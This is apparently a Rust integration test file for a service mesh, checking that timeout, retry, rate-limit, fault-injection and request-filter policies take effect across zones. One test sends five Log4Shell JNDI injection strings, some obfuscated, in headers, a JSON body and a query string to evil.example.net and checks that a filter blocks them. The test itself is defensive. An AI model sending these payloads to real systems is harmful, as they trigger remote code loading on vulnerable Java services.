//! Traffic policies, as a user sees them: by one apply, across zones, without a restart.

use crate::policies::EVERYTHING;
use anyhow::{Result, ensure};
use meridian_testkit::mesh::{Backing, Mesh, Proxy, Workload, curl_until};
use meridian_testkit::wait::{DEADLINE, until};

async fn ends(from: &Proxy, url: &str, code: &str) -> Result<String> {
    curl_until(from, &["-i", url], code, |said| said.ends_with(code)).await
}

#[tokio::test]
async fn timeouts_and_retries_hold_as_long_as_they_are_written() -> Result<()> {
    let mut mesh = Mesh::start("times", Backing::Sqlite, &["east", "west"]).await?;
    mesh.apply(EVERYTHING).await?;
    let web = mesh.workload("east", &Workload::http("web-1", "web")).await?;
    let batch = mesh.workload("east", &Workload::http("batch-1", "batch")).await?;
    let _backend = mesh.workload("west", &Workload::http("backend-1", "backend")).await?;
    for caller in [&web, &batch] {
        ends(caller, "http://backend.mesh/slow/600", "200").await?;
    }

    mesh.apply(
        "type: MeshTimeout\nmesh: default\nname: quick\nspec:\n  targetRef: {kind: MeshSubset, tags: {kuma.io/service: web}}\n  to:\n  \
         - targetRef: {kind: MeshService, name: backend}\n    default: {http: {requestTimeout: 200ms}}\n",
    )
    .await?;
    for name in ["backend.mesh", "backend.svc.west.mesh.local:8080"] {
        ends(&web, &format!("http://{name}/slow/600"), "504").await?;
        ends(&web, &format!("http://{name}/slow/1"), "200").await?;
    }
    ends(&batch, "http://backend.mesh/slow/600", "200").await?;
    mesh.meridian(&["delete", "meshtimeout", "quick"]).await?;
    ends(&web, "http://backend.mesh/slow/600", "200").await?;

    // The mesh began with a MeshRetry of its own.
    let all_answered = async || -> Result<()> {
        for _ in 0..6 {
            let said = web.curl(&["http://backend.mesh/every/3"]).await?;
            ensure!(said.ends_with("200"), "{said}");
        }
        Ok(())
    };
    all_answered().await?;
    mesh.meridian(&["delete", "meshretry", "mesh-retry-all-default"]).await?;
    ends(&web, "http://backend.mesh/every/3", "503").await?;
    mesh.apply(
        "type: MeshRetry\nmesh: default\nname: again\nspec:\n  targetRef: {kind: Mesh}\n  to:\n  - targetRef: {kind: Mesh}\n    default: \
         {http: {numRetries: 3, retryOn: [5xx], backOff: {baseInterval: 1ms}}}\n",
    )
    .await?;
    until("requests to be repeated", DEADLINE, all_answered).await
}

#[tokio::test]
async fn limits_faults_and_filters_act_where_the_request_arrives() -> Result<()> {
    let mut mesh = Mesh::start("limit", Backing::Sqlite, &["east", "west"]).await?;
    mesh.apply(EVERYTHING).await?;
    let web = mesh.workload("east", &Workload::http("web-1", "web")).await?;
    let batch = mesh.workload("east", &Workload::http("batch-1", "batch")).await?;
    let _backend = mesh.workload("west", &Workload::http("backend-1", "backend")).await?;
    let url = "http://backend.mesh/";
    for caller in [&web, &batch] {
        ends(caller, url, "200").await?;
    }

    mesh.apply(
        "type: MeshRateLimit\nmesh: default\nname: few\nspec:\n  targetRef: {kind: Dataplane}\n  rules:\n  - default: \
         {local: {http: {requestRate: {num: 2, interval: 1h}, onRateLimit: {status: 429, headers: {set: [{name: x-limited, value: yes}]}}}}}\n",
    )
    .await?;
    let said = ends(&web, url, "429").await?;
    ensure!(said.contains("x-limited: yes"), "{said}");
    mesh.meridian(&["delete", "meshratelimit", "few"]).await?;
    ends(&web, url, "200").await?;

    mesh.apply(
        "type: MeshFaultInjection\nmesh: default\nname: broken\nspec:\n  targetRef: {kind: Dataplane}\n  rules:\n  - matches: \
         [{spiffeID: {type: Exact, value: 'spiffe://default/web'}}]\n    default: {http: [{abort: {httpStatus: 501, percentage: 100}}]}\n",
    )
    .await?;
    ends(&web, url, "501").await?;
    ends(&batch, url, "200").await?;
    mesh.meridian(&["delete", "meshfaultinjection", "broken"]).await?;
    ends(&web, url, "200").await?;

    let attacks: [&[&str]; 5] = [
        &["-H", "x-api-version: ${jndi:ldap://evil.example.net/a}", url],
        &["-H", "user-agent: ${${lower:j}${::-n}di:rmi://evil.example.net/a}", url],
        // On every Linux host that is a colon.
        &["-H", "referer: ${jndi${sys:path.separator}ldap://evil.example.net/a}", url],
        &[
            "-H",
            "content-type: application/json",
            "-d",
            "{\"name\": \"${jndi:dns://evil.example.net}\"}",
            url,
        ],
        &["http://backend.mesh/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.net%2Fa%7D"],
    ];
    for attack in attacks {
        curl_until(&web, attack, "nobody to mind", |said| said.ends_with("200")).await?;
    }
    mesh.apply(
        "type: MeshRequestFilter\nmesh: default\nname: log4shell\nspec:\n  targetRef: {kind: Mesh}\n  rules:\n  - default: {ruleSets: [log4shell]}\n",
    )
    .await?;
    for attack in attacks {
        let words = [&["-i"], attack].concat();
        let said = curl_until(&web, &words, "a refusal", |said| said.ends_with("403")).await?;
        ensure!(said.contains("x-meridian-denied: request-filter"), "{said}");
    }
    ends(&web, url, "200").await?;
    until("the refusals at global", DEADLINE, || async {
        let denials = mesh.get(&mesh.global, "/meshes/default/_denials").await?.to_string();
        ensure!(denials.contains("request-filter") && denials.contains("log4shell"), "{denials}");
        Ok(())
    })
    .await?;
    mesh.meridian(&["delete", "meshrequestfilter", "log4shell"]).await?;
    for attack in attacks {
        curl_until(&web, attack, "nobody to mind again", |said| said.ends_with("200")).await?;
    }
    Ok(())
}
